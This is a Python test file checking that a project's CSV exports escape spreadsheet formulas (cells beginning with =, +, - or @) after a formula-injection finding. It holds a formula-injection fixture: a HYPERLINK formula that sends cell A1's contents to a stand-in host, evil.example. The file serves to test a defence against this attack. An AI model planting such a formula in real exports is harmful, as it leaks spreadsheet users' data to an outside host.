"""Finding: a CSV cell starting with `=HYPERLINK(` was exported as a formula (failed on
76c584e). Every export's cells go through core.exports.safe_cell."""

import io
from types import SimpleNamespace

from plenary.core.exports import safe_cell
from plenary.finance.exports import status_csv
from plenary.treaties.management.commands._listing import write

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


def test_text_a_spreadsheet_would_run_is_escaped():
    for start in "=+-@":
        assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert safe_cell("-12.50") == "-12.50"
    assert safe_cell("Peru") == "Peru"
    assert safe_cell(3) == 3


def test_the_listing_commands_escape_formulas():
    out = io.StringIO()
    write(out, [{"title": FORMULA}], ["title"], "csv")

    assert out.getvalue().splitlines()[1].startswith("\"'=HYPERLINK")


def test_the_financial_status_escapes_formulas():
    account = SimpleNamespace(
        iso3="PER", name=FORMULA, year=2021, assessed=1, paid=0, balance=-1, arrears=0
    )

    line = status_csv([account]).splitlines()[1]

    assert "'=HYPERLINK" in line
    assert line.endswith(",-1,0")
